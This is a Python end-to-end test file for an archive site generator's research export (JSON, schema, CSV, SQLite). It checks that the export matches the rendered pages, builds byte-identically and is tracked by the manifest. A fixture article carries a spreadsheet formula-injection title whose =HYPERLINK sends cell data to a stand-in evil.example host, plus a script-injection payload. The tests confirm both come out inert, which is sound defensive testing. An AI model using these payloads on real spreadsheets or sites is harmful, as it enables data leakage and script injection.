"""End-to-end: the research export (#17) of the 50-article fixture archive, plus a copy, a
draft and a hostile article: archive.json, its schema, archive.csv and archive.sqlite say
what the pages show, byte for byte the same on every build, owned by the output manifest."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import sqlite3
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from archivegen.cli import main
from archivegen.export.csvfile import COLUMNS, LIST_SEPARATOR, neutralised
from archivegen.render.writer import MANIFEST_NAME, read_manifest
from conftest import FIXTURES

ARCHIVE = FIXTURES / "archive"
EXPORT_FILES = ("archive.json", "archive.schema.json", "archive.csv", "archive.sqlite")
BASE_URL = "https://example.org/news/"
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"click") </script> "quoted" \'single\''
COPIED = "gr_004_danube-importers-currency.txt"


def _project(root: Path, export: str = "[json, csv, sqlite]", extra: str = "") -> Path:
    """A project folder: the fixture archive plus an exact copy of one article, a draft and
    a hostile one; the settings ask for `export`."""
    articles = root / "articles"
    shutil.copytree(ARCHIVE, articles)
    shutil.copy(articles / COPIED, articles / "zz_copy_of_gr_004.txt")
    (articles / "md_draft.md").write_text(
        "---\ntitle: Not yet published\ndate: 2020-01-02\ndraft: true\n---\n\nA draft body "
        "that says something long enough to be an article of its own, unlike any other.\n",
        encoding="utf-8")
    (articles / "md_hostile_title.md").write_text(
        "---\ntitle: " + json.dumps(HOSTILE_TITLE) + "\ndate: 2021-07\n"
        "authors: ['@attacker', '-minus']\nsource: '+plus source'\n---\n\n"
        "Body with </script><script>alert(1)</script> and \"quotes\", unlike the others.\n\n"
        "=SUM(A1:A9) on a line of its own.\n", encoding="utf-8")
    (root / "archivegen.yaml").write_text(
        f"input: articles\noutput: site\nbase_url: {BASE_URL}\nexport: {export}\n{extra}",
        encoding="utf-8")
    return root


def _build(project: Path, *extra: str) -> int:
    return main(["build", "--config", str(project / "archivegen.yaml"), "--quiet", *extra])


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = _project(tmp_path_factory.mktemp("export"))
    assert _build(project) == 0
    return project / "site"


def _articles(site: Path) -> list[dict[str, Any]]:
    data = json.loads((site / "archive.json").read_text(encoding="utf-8"))
    articles = data["articles"]
    assert isinstance(articles, list)
    return articles


class _PageText(HTMLParser):
    """The text of a page (entities decoded), its links, its <h1>, its meta tags and its
    byline (<dl class="byline">: each <dt>'s text to its <dd>'s)."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.links: list[str] = []
        self.meta: dict[str, str] = {}
        self.byline: dict[str, str] = {}
        self.h1 = ""
        self._in: str | None = None
        self._in_byline = False
        self._term = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "a" and found.get("href"):
            self.links.append(found["href"] or "")
        if tag == "meta" and found.get("property"):
            self.meta[found["property"] or ""] = found.get("content") or ""
        if tag == "dl" and found.get("class") == "byline":
            self._in_byline = True
        if tag == "h1" or (self._in_byline and tag in ("dt", "dd")):
            self._in = tag
            if tag == "dt":
                self._term = ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "dl":
            self._in_byline = False
        if tag == self._in:
            self._in = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in == "h1":
            self.h1 += data
        elif self._in == "dt":
            self._term += data
        elif self._in == "dd":
            self.byline[self._term] = self.byline.get(self._term, "") + data


def _page(site: Path, url: str) -> _PageText:
    parser = _PageText()
    parser.feed((site / url.lstrip("/") / "index.html").read_text(encoding="utf-8"))
    return parser


def test_json_validates_against_the_shipped_schema(site: Path) -> None:
    data = json.loads((site / "archive.json").read_text(encoding="utf-8"))
    schema = json.loads((site / "archive.schema.json").read_text(encoding="utf-8"))
    assert data["$schema"] == "archive.schema.json"
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(data)


def test_every_record_is_what_its_page_shows(site: Path) -> None:
    articles = _articles(site)
    assert [a["url"] for a in articles] == sorted(a["url"] for a in articles)
    assert [a["id"] for a in articles] == list(range(1, len(articles) + 1))
    for record in articles:
        page = _page(site, record["url"])
        text = " ".join(" ".join(page.text).split())
        assert " ".join(page.h1.split()).endswith(" ".join(record["title"].split()))
        assert page.byline["Date"] == (record["date_display"] or "Undated")
        assert page.byline.get("By", "") == ", ".join(record["authors"])
        assert page.byline.get("Publisher", "") == record["publisher"]
        assert page.byline.get("Original source", "") == record["original_source"]
        if record["original_url"].startswith("https://"):
            assert record["original_url"] in page.links
        assert record["absolute_url"] == BASE_URL.rstrip("/") + record["url"]
        assert page.meta["og:url"] == record["absolute_url"]
        assert record["provenance"]["source_path"] in text


def test_drafts_are_left_out_and_copies_listed_where_they_were_folded(site: Path) -> None:
    articles = _articles(site)
    keys = {a["key"] for a in articles}
    assert "md_draft.md" not in keys and "zz_copy_of_gr_004.txt" not in keys
    (canonical,) = [a for a in articles if a["duplicates"]]
    assert canonical["key"] == COPIED
    assert canonical["duplicates"] == [{"key": "zz_copy_of_gr_004.txt",
                                        "source_path": "zz_copy_of_gr_004.txt",
                                        "kind": "exact", "similarity": 1.0}]
    with sqlite3.connect(site / "archive.sqlite") as db:
        assert db.execute("SELECT d.key, a.key FROM duplicates d JOIN articles a "
                          "ON a.id = d.article_id").fetchall() == [
            ("zz_copy_of_gr_004.txt", COPIED)]


def _article_pages(site: Path) -> int:
    return sum(1 for path in site.rglob("index.html")
               if '<article class="article">' in path.read_text(encoding="utf-8"))


def test_sqlite_has_a_row_per_article_page_and_the_term_pages_counts(site: Path) -> None:
    with sqlite3.connect(site / "archive.sqlite") as db:
        assert db.execute("PRAGMA foreign_key_check").fetchall() == []
        assert db.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        (count,) = db.execute("SELECT COUNT(*) FROM articles").fetchone()
        assert count == _article_pages(site) == len(_articles(site))
        for taxonomy in ("regions", "themes", "tags", "authors", "reports", "publishers",
                         "sources"):
            shown = dict(re.findall(  # the taxonomy's index page: each term and its count
                r'<li style="--count: \d+"><a href="[^"]*">([^<]*)</a> <span class="n">(\d+)',
                (site / taxonomy / "index.html").read_text(encoding="utf-8")))
            counted = db.execute(
                "SELECT t.name, COUNT(DISTINCT a.article_id) FROM terms t JOIN article_terms a "
                "USING (taxonomy, slug) WHERE taxonomy = ? GROUP BY t.slug", (taxonomy,))
            assert {html.unescape(k): int(v) for k, v in shown.items()} == dict(counted.fetchall())
        # Every table the schema documents has rows here, keyed to an article.
        for table in ("article_terms", "provenance_fields", "repairs", "duplicates"):
            assert db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] > 0


def _expected_csv_row(record: dict[str, Any]) -> list[str]:
    joined = LIST_SEPARATOR.join
    values = {
        **{k: v for k, v in record.items() if isinstance(v, str)},
        "id": str(record["id"]), "absolute_url": record["absolute_url"] or "",
        "title_stated": str(record["title_stated"]).lower(),
        "draft": str(record["draft"]).lower(), "date": record["date"] or "",
        "date_precision": record["date_precision"] or "",
        "authors": joined(record["authors"]),
        "contributors": joined(f"{c['role']}: {c['name']}" for c in record["contributors"]),
        **{tax: joined(record[tax]) for tax in ("regions", "themes", "tags", "reports")},
        "duplicates": joined(d["key"] for d in record["duplicates"]),
        **{k: record["provenance"][k] for k in ("source_path", "sha256", "layout",
                                                "sidecar_path")},
        "repairs": joined(sorted({r["rule"] for r in record["provenance"]["repairs"]})),
    }
    return [neutralised(values[column]) for column in COLUMNS]


def test_csv_parses_back_to_the_json_records(site: Path) -> None:
    raw = (site / "archive.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows[0] == list(COLUMNS)
    assert rows[1:] == [_expected_csv_row(r) for r in _articles(site)]


def test_a_hostile_article_round_trips_inert(site: Path) -> None:
    (record,) = [a for a in _articles(site) if a["key"] == "md_hostile_title.md"]
    assert record["title"] == HOSTILE_TITLE
    assert record["authors"] == ["@attacker", "-minus"]
    assert (record["date"], record["date_precision"]) == ("2021-07", "month")
    assert "</script><script>alert(1)</script>" in record["body_markdown"]
    rows = list(csv.DictReader(io.StringIO((site / "archive.csv").read_text(encoding="utf-8"),
                                           newline="")))
    (row,) = [r for r in rows if r["source_path"] == "md_hostile_title.md"]
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["authors"] == "'@attacker; -minus"
    assert row["original_source"] == "'+plus source"
    # No cell of any row starts as a formula would.
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@")]
    with sqlite3.connect(site / "archive.sqlite") as db:
        assert db.execute("SELECT title FROM articles WHERE key = ?",
                          ("md_hostile_title.md",)).fetchone() == (HOSTILE_TITLE,)
    page = _page(site, record["url"])
    assert " ".join(page.h1.split()) == " ".join(HOSTILE_TITLE.split())


def test_export_files_are_the_same_bytes_whatever_the_folders_and_cache(
        site: Path, tmp_path: Path) -> None:
    again = _project(tmp_path / "elsewhere")
    assert _build(again, "--no-cache") == 0
    for name in EXPORT_FILES:
        assert (again / "site" / name).read_bytes() == (site / name).read_bytes(), name


def test_owned_by_the_manifest_kept_unchanged_and_pruned_when_switched_off(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = _project(tmp_path)
    out = project / "site"
    assert _build(project) == 0
    assert set(EXPORT_FILES) <= read_manifest(out)
    times = {name: (out / name).stat().st_mtime_ns for name in EXPORT_FILES}
    assert _build(project) == 0  # replayed: nothing written
    assert _build(project, "--no-cache") == 0  # made again: the same bytes, not rewritten
    assert {name: (out / name).stat().st_mtime_ns for name in EXPORT_FILES} == times
    # The setting narrowed to CSV: the other files go, CSV stays.
    settings = project / "archivegen.yaml"
    settings.write_text(settings.read_text().replace("[json, csv, sqlite]", "[csv]"))
    assert _build(project) == 0
    assert [name for name in EXPORT_FILES if (out / name).exists()] == ["archive.csv"]
    settings.write_text(settings.read_text().replace("export: [csv]", "export: []"))
    assert _build(project) == 0
    assert not [name for name in EXPORT_FILES if (out / name).exists()]
    assert not set(EXPORT_FILES) & read_manifest(out)
    assert (out / MANIFEST_NAME).is_file()


def test_an_edit_updates_the_export_through_the_full_build(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """With the export on, the quick rebuild declines (the export is made from every
    article) and says why; the full build makes the export again."""
    project = _project(tmp_path)
    out = project / "site"
    assert _build(project) == 0
    edited = project / "articles" / "md_hostile_title.md"
    edited.write_text(edited.read_text(encoding="utf-8").replace(
        json.dumps(HOSTILE_TITLE), '"A calmer title"'), encoding="utf-8")
    capsys.readouterr()
    assert main(["build", "--config", str(project / "archivegen.yaml")]) == 0
    assert "full build: the research export (settings: export) is made from every article" \
        in capsys.readouterr().out
    (record,) = [a for a in _articles(out) if a["key"] == "md_hostile_title.md"]
    assert record["title"] == "A calmer title"
    with sqlite3.connect(out / "archive.sqlite") as db:
        assert db.execute("SELECT COUNT(*) FROM articles WHERE title = ?",
                          ("A calmer title",)).fetchone() == (1,)
    assert not (out / ".archivegen-tmp").exists()  # no temporary file left behind


def test_drafts_are_exported_when_the_build_includes_them(tmp_path: Path) -> None:
    project = _project(tmp_path)
    assert _build(project, "--drafts") == 0
    (draft,) = [a for a in _articles(project / "site") if a["key"] == "md_draft.md"]
    assert draft["draft"] is True


def test_a_bad_export_setting_is_a_settings_error(tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    project = _project(tmp_path, export="[json, parquet]")
    assert _build(project) == 2
    assert "'export' takes json, csv, sqlite; got 'parquet' [AG012]" in capsys.readouterr().err
    assert not (project / "site").exists()


def test_dates_are_in_the_words_of_the_pages_language(tmp_path: Path) -> None:
    """date_display is "the date as the page shows it": in French on a French site."""
    project = _project(tmp_path, "[json, csv]", "language: fr\n")
    assert _build(project) == 0
    site = project / "site"
    dated = [a for a in _articles(site) if a["date"]]
    assert dated
    for record in dated:
        page = (site / record["url"].lstrip("/") / "index.html").read_text(encoding="utf-8")
        assert f'<time datetime="{record["date"]}">{html.escape(record["date_display"])}' \
            in page, record["url"]
    danube = next(a for a in dated if a["provenance"]["source_path"] == COPIED)
    assert danube["date_display"] == "11 février 2015"
    rows = list(csv.DictReader(io.StringIO((site / "archive.csv").read_text("utf-8"))))
    assert {r["date_display"] for r in rows} >= {"11 février 2015"}
